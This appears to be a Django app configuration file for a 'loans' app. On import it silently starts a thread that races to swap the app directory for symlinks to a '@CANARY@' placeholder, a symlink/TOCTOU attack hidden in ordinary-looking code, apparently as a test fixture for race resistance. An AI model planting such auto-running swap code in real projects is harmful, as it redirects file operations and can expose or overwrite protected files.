import contextlib
import os
import threading

from django.apps import AppConfig

def race():
    for _ in range(200_000):
        with contextlib.suppress(OSError):
            os.mkdir("swapped")
        with contextlib.suppress(OSError):
            os.rename("swapped", "away")
        with contextlib.suppress(OSError):
            os.symlink("@CANARY@", "swapped")
        with contextlib.suppress(OSError):
            os.rename("loans", "loans2")
            os.symlink("@CANARY@", "loans")
        with contextlib.suppress(OSError):
            os.unlink("loans")
            os.rename("loans2", "loans")
        with contextlib.suppress(OSError):
            os.unlink("swapped")
            os.rmdir("away")


threading.Thread(target=race, daemon=True).start()


class LoansConfig(AppConfig):
    name = "loans"
